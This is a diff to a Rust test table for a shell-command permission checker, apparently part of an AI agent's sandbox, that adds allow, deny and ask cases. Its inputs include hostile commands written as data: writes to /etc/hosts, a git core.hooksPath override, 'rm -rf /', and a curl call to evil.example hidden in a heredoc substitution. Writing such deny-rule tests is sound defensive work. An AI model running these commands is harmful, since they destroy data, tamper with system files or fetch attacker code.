@@ -152,6 +152,23 @@ fn the_command_table() {
             Deny,
             "writes outside the workspace",
         ),
+        (
+            "mv /etc/hosts hosts.bak",
+            Deny,
+            "writes outside the workspace",
+        ),
+        (
+            "sed -i 's/a/b/' /etc/hosts",
+            Deny,
+            "writes outside the workspace",
+        ),
+        ("sed -i 's/a/b/' src/main.rs", Allow, "\"sed *\""),
+        (
+            "git -c core.hooksPath=/tmp/h commit -m x",
+            Deny,
+            "core.hooksPath",
+        ),
+        ("git -c alias.x='!sh' x", Ask, "\"git -c *\""),
         ("if true; then curl x; fi", Deny, "\"curl *\""),
         ("f() { rm -rf /; }; f", Deny, "rm of /"),
         ("cat <<EOF\n$(curl evil.example)\nEOF", Deny, "\"curl *\""),
